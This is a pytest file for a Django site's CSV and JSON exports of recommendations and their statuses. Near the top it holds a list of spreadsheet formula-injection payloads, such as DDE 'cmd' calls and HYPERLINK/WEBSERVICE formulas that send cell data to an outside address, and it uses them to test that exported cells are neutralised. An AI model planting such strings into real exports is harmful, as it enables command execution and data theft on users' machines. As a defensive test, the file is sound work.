"""P11 and T18: the record as CSV and JSON: documented, stable, licensed, harmless."""

import csv
import json
from datetime import date
from io import StringIO

import pytest

from core.spreadsheets import safe_cell, words_of
from publications.exports import COLUMNS, FIELDS
from publications.models import Organisation
from tests import builders
from tests.reading import document, links, main, words

pytestmark = [pytest.mark.django_db, pytest.mark.sqlite_only]

# What opens a calculator, a shell or a link when a spreadsheet takes it for a formula.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("https://example.com?x=",A1),"//a")',
    '=WEBSERVICE("https://example.com")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    " =1+1",
    "   +1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '=1+1","=2+2',
    "=1\r\n=2",
]
# How often the database is asked: by address below that of the record.
QUERIES = {"": 6, "csv/": 4, "json/": 4, "body/a-partner/": 6, "many/1/": 8}
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture
def record():
    return builders.recommendations_page()


def rows_of(answer) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(answer.content.decode(), newline="")))


def three(record):
    """Two of one report and one of another, in the order of the list."""
    home, police = builders.partner("Home Office"), builders.partner("Police")
    old = builders.publication(title="Old", slug="old", display_date=date(2020, 5, 1))
    new = builders.publication(title="New", slug="new", display_date=date(2021, 5, 1))
    made = ("made", date(2020, 5, 1))
    answered = {
        "status": "partly_accepted",
        "changed_on": date(2020, 9, 1),
        "evidence": "They wrote so.",
        "evidence_url": "https://example.com/answer",
    }
    builders.recommendation(
        made, answered, publication=old, number="3.2", bodies=[police, home], text="Count, “all”."
    )
    builders.recommendation(made, publication=old, number="4", bodies=[home])
    builders.recommendation(("made", date(2021, 5, 1)), publication=new, number="1", bodies=[home])


# CSV


def test_the_csv_has_a_line_for_each_recommendation_in_the_order_of_the_list(client, record):
    three(record)

    rows = rows_of(client.get(f"{record.url}csv/"))

    assert [(row["publication"], row["number"]) for row in rows] == [
        ("New", "1"),
        ("Old", "3.2"),
        ("Old", "4"),
    ]
    assert rows[1] == {
        "publication": "Old",
        "publication_address": "http://testserver/publications/old/",
        "number": "3.2",
        "address": f"http://testserver{record.url}old/3-2/",
        "text": "Count, “all”.",
        "source": "paragraph 4.12",
        "bodies": "Home Office; Police",
        "made_on": "2020-05-01",
        "status": "partly-accepted",
        "status_on": "2020-09-01",
        "evidence": "They wrote so.",
        "evidence_address": "https://example.com/answer",
        "licence": "OGL-UK-3.0",
    }


def test_names_and_order_of_the_columns_are_for_good(client, record):
    first = client.get(f"{record.url}csv/").content.decode().split("\r\n")[0]

    assert first == (
        "publication,publication_address,number,address,text,source,bodies,made_on,status,"
        "status_on,evidence,evidence_address,licence"
    )


def test_the_csv_is_what_the_rfc_says(client, record):
    three(record)
    builders.recommendation(number="9", text='Two\r\nlines, a comma and "quotes".')

    answer = client.get(f"{record.url}csv/")

    content = answer.content.decode("utf-8")
    assert answer["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert content.endswith("\r\n")
    assert not content.startswith("\ufeff")
    lines = list(csv.reader(StringIO(content, newline=""), strict=True))
    assert {len(line) for line in lines} == {len(COLUMNS)}
    assert 'Two\r\nlines, a comma and "quotes".' in [line[4] for line in lines]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_and_none_is_changed_for_good(payload):
    cell = safe_cell(payload)

    assert not cell.startswith(DANGEROUS)
    assert not cell.lstrip().startswith(DANGEROUS)
    assert words_of(cell) == payload


@pytest.mark.parametrize("words", ["", "Plain", "'tis", "3", "a=b", "1-2", "o'clock", "a\tb", "é"])
def test_harmless_words_stay_as_they_are(words):
    assert safe_cell(words) == words
    assert words_of(words) == words


def test_no_field_that_staff_fill_brings_a_formula_into_the_csv(client, record):
    for place, payload in enumerate(PAYLOADS):
        evil = payload.replace("\x00", "")
        body = builders.partner(f"{evil} {place}", slug=f"body-{place}")
        report = builders.publication(title=f"{evil} {place}", slug=f"report-{place}")
        builders.recommendation(
            {"status": "made", "changed_on": date(2021, 1, 1), "evidence": evil},
            publication=report,
            bodies=[body],
            text=evil,
            source=evil,
        )

    lines = list(csv.reader(StringIO(client.get(f"{record.url}csv/").content.decode(), newline="")))

    assert len(lines) == len(PAYLOADS) + 1
    cells = [cell for line in lines for cell in line]
    assert [cell for cell in cells if cell.lstrip(" \u3000").startswith(DANGEROUS)] == []
    texts = {words_of(line[4]) for line in lines[1:]}
    assert texts == set(PAYLOADS)


# JSON


def test_the_json_holds_all_that_the_record_knows(client, record):
    three(record)

    answer = client.get(f"{record.url}publication/old/json/")

    found = json.loads(answer.content)
    assert answer["Content-Type"] == "application/json"
    assert found["licence"] == {
        "id": "OGL-UK-3.0",
        "name": "Open Government Licence v3.0",
        "address": ("https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/"),
    }
    assert found["address"] == f"http://testserver{record.url}publication/old/"
    assert found["filters"] == {"publication": "old"}
    assert found["count"] == 2
    assert found["recommendations"][0] == {
        "publication": {"title": "Old", "address": "http://testserver/publications/old/"},
        "number": "3.2",
        "address": f"http://testserver{record.url}old/3-2/",
        "text": "Count, “all”.",
        "source": "paragraph 4.12",
        "bodies": [
            {"id": "home-office", "name": "Home Office"},
            {"id": "police", "name": "Police"},
        ],
        "made_on": "2020-05-01",
        "status": "partly-accepted",
        "status_on": "2020-09-01",
        "statuses": [
            {
                "status": "made",
                "on": "2020-05-01",
                "evidence": "They wrote so.",
                "evidence_address": "",
            },
            {
                "status": "partly-accepted",
                "on": "2020-09-01",
                "evidence": "They wrote so.",
                "evidence_address": "https://example.com/answer",
            },
        ],
    }


def test_every_field_is_described_on_the_site(client, record):
    three(record)
    found = json.loads(client.get(f"{record.url}json/").content)
    fields = set(found) | {f"recommendations.{name}" for name in found["recommendations"][0]}

    page = main(client.get(f"{record.url}about-the-data/"))

    described = {words(code) for code in page.select("th code")}
    assert fields == set(FIELDS)
    assert described == set(FIELDS) | {column.name for column in COLUMNS}
    assert "Open Government Licence v3.0" in words(page)


# Both


@pytest.mark.parametrize(
    ("address", "numbers"),
    [
        ("body/police/", ["3.2"]),
        ("status/made/", ["1", "4"]),
        ("publication/old/", ["3.2", "4"]),
        ("2021/", ["1"]),
        ("body/home-office/status/partly-accepted/publication/old/2020/", ["3.2"]),
        ("status/superseded/", []),
    ],
)
def test_each_filtered_list_has_its_files(client, record, address, numbers):
    three(record)

    rows = rows_of(client.get(f"{record.url}{address}csv/"))
    found = json.loads(client.get(f"{record.url}{address}json/").content)

    assert [row["number"] for row in rows] == numbers
    assert [one["number"] for one in found["recommendations"]] == numbers
    offered = links(document(client.get(record.url + address))).values()
    assert (f"{record.url}{address}csv/" in offered) == bool(numbers)


@pytest.mark.parametrize(
    ("part", "address", "known"),
    [
        ("status", "status/nonsense/", ["made", "accepted", "partly-accepted"]),
        ("body", "body/nonsense/", ["home-office", "police"]),
        ("publication", "publication/nonsense/", ["new", "old"]),
        ("year", "1899/", ["2021", "2020"]),
        ("status", "body/police/status/nonsense/2020/", ["made", "accepted", "partly-accepted"]),
    ],
)
def test_a_file_of_something_unknown_says_in_its_own_words_what_is_known(
    client, record, part, address, known
):
    three(record)

    as_json = client.get(f"{record.url}{address}json/")
    as_text = client.get(f"{record.url}{address}csv/")

    assert as_json.status_code == as_text.status_code == 404
    refusal = json.loads(as_json.content)
    assert refusal["part"] == part
    assert refusal["known"][: len(known)] == known
    assert f"There is no {part} “" in refusal["error"]
    assert as_text["Content-Type"] == "text/plain; charset=utf-8"
    assert as_text.content.decode().split("\n")[2:][: len(known)] == known


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_a_file_names_itself_and_its_licence_and_is_not_sent_twice(client, record, kind):
    three(record)
    address = f"{record.url}body/home-office/status/made/2020/{kind}/"

    first = client.get(address)
    again = client.get(address, HTTP_IF_NONE_MATCH=first["ETag"])
    home = Organisation.objects.get(slug="home-office")
    builders.recommendation(("made", date(2020, 1, 1)), number="7", bodies=[home])
    changed = client.get(address, HTTP_IF_NONE_MATCH=first["ETag"])

    assert first["Content-Disposition"] == (
        f'attachment; filename="recommendations-body-home-office-status-made-2020.{kind}"'
    )
    assert first["Link"] == (
        "<https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/>;"
        ' rel="license"'
    )
    assert again.status_code == 304
    assert again.content == b""
    assert changed.status_code == 200


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_a_file_may_be_asked_for_without_its_content(client, record, kind):
    assert client.head(f"{record.url}{kind}/").status_code == 200


@pytest.mark.parametrize("address", ["", "csv/", "json/", "body/a-partner/", "many/1/"])
def test_the_database_is_asked_as_often_for_ten_as_for_five_hundred(
    client, record, address, django_assert_num_queries
):
    report = builders.publication(slug="many")
    page = builders.news_item()
    body = builders.partner()

    def add(count):
        for one in builders.many_recommendations(count, publication=report, body=body):
            one.statuses.create(
                status="accepted", changed_on=date(2022, 3, 1), evidence_page_id=page.pk
            )

    add(10)
    client.get(record.url + address)
    with django_assert_num_queries(QUERIES[address]):
        client.get(record.url + address)

    add(490)

    with django_assert_num_queries(QUERIES[address]):
        client.get(record.url + address)
